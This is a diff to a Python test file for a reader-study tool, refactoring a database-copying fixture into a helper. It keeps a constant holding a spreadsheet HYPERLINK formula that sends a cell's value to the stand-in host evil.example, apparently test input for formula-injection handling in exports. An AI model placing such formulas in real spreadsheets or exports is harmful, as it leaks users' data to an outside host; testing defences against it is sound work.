@@ -5,7 +5,6 @@ and counted in the analysis, report and dashboard; migration 6."""
 import csv
 import dataclasses
 import json
-import shutil
 import sqlite3
 import uuid
 
@@ -15,13 +14,13 @@ from click.testing import CliRunner
 
 from studies import database, lifecycle, readers, remarks, report, session
 from studies.analysis import analyze
-from studies.database import open_db, stimuli_dir
+from studies.database import open_db
 from studies.design import StudyOptions
 from studies.errors import NotAuthorised, SessionError
 from studies.export import long_table, read_long_csv, write_export
 from studies.session import CannotGoBack, go_back, next_case, stimulus_png, submit
 from studio.cli import cli
-from study_fixtures import make_study
+from study_fixtures import copy_study, make_study
 
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 
@@ -34,10 +33,7 @@ def template(tmp_path_factory):
 
 @pytest.fixture()
 def study(template, tmp_path):
-    db = tmp_path / "study.db"
-    shutil.copyfile(template, db)
-    shutil.copytree(stimuli_dir(template), stimuli_dir(db))
-    return db
+    return copy_study(template, tmp_path)
 
 
 def _reader(db, name="dr-a", study="pilot"):
